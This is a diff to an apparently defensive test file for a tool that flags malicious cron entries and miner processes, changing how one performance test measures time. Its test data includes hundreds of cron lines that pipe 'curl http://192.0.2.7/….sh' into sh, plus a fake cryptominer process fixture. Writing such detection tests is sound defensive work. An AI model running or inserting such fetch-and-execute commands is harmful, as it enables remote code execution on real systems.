@@ -101,9 +101,9 @@ def test_entries_of_a_package_are_nobodys_accomplices() -> None:
 
 def test_hundreds_of_guilty_entries_are_put_together_in_little_time() -> None:
     lines = [cron(f"curl http://192.0.2.7/{number}.sh | sh", line=number) for number in range(1, 501)]
-    start = time.perf_counter()
+    start = time.process_time()
     assert len(judged(snapshot(*lines)).incidents) == 1
-    assert time.perf_counter() - start < 5.0
+    assert time.process_time() - start < 5.0
 
 
 MINER = process(200, "/var/tmp/.x/kdevtmpfsi", cores=1.0, user="ada")
